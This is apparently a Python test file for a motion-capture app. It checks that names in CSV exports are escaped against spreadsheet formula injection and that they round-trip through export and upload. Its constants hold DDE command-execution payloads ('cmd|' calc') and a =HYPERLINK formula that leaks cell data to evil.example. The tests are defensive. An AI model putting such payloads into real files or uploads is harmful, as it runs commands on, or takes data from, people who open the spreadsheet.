"""Names people typed or uploaded open as text in a spreadsheet, never as formulas, and a
point named with a comma survives an export and its upload again (issue 48, item 7)."""

import csv
import io
import json
import tempfile
import zipfile
from pathlib import Path

import numpy as np

import motionlib
from segmentation import services
from segmentation.models import LibrarySegment
from tests.motionlib.points_data import points_file
from tests.segmentation.base import BaseTestCase, synthetic_bvh
from tests.segmentation.test_library import submit_review

CAPTURE = "=cmd|' -C calc'!A0.bvh"
LABEL = "@SUM(1+1)*cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?x"&A1,"open")'


class ManifestFormulaTest(BaseTestCase):
    def test_capture_and_label_names_open_as_text_in_manifest_csv(self):
        services.do_add_label(self.project, LABEL)
        self.login(self.bob)
        capture = self.ingest(self.upload(synthetic_bvh(), name=CAPTURE).json()["id"])
        submit_review(capture, self.bob, [609], [LABEL, "punch"])
        r = self.client.get(f"/api/segments/export.zip?capture={capture.pk}")
        archive = zipfile.ZipFile(io.BytesIO(b"".join(r.streaming_content)))
        rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
        assert [(row["capture"], row["label"]) for row in rows] == [
            ("'" + CAPTURE, "'" + LABEL), ("'" + CAPTURE, "punch")]
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
        # manifest.json is data for programs, not a spreadsheet: the names as they are.
        named = [(row["capture"], row["label"]) for row in json.loads(archive.read("manifest.json"))]
        assert named == [(CAPTURE, LABEL), (CAPTURE, "punch")]


class PointNameExportTest(BaseTestCase):
    """A vMCI take whose markers are renamed ``=HYPERLINK(...)`` and ``a,b``."""

    def renamed_take(self):
        text = points_file("vmci", "subject1_run1.tsv").read_text()
        return text.replace("Shoulder", HYPERLINK).replace("Elbow", "a,b").encode()

    def test_point_names_are_protected_and_read_back_after_a_round_trip(self):
        self.login(self.alice)
        response = self.upload(self.renamed_take(), name="renamed.tsv")
        capture = self.ingest(response.json()["id"])
        assert capture.status == "ready", capture.error
        submit_review(capture, self.bob, [400], ["walk", "punch"])
        segment = LibrarySegment.objects.get(capture=capture, start=0)
        exported = self.client.get(f"/api/segments/{segment.pk}/export.csv").content

        header = next(row for row in csv.reader(io.StringIO(exported.decode()))
                      if not row[0].startswith("#"))
        assert header[1:7] == ["'" + HYPERLINK + "_x", "'" + HYPERLINK + "_y",
                               "'" + HYPERLINK + "_z", "a,b_x", "a,b_y", "a,b_z"]

        again = self.ingest(self.upload(exported, name="again.csv").json()["id"])
        assert again.status == "ready", again.error
        assert again.skeleton["joints"][:2] == [HYPERLINK, "a,b"]
        path = Path(self.enterContext(tempfile.TemporaryDirectory())) / "clip.csv"
        path.write_bytes(exported)
        original = motionlib.read(points_file("vmci", "subject1_run1.tsv"))
        np.testing.assert_array_equal(motionlib.read(path).channels, original.channels[:400])
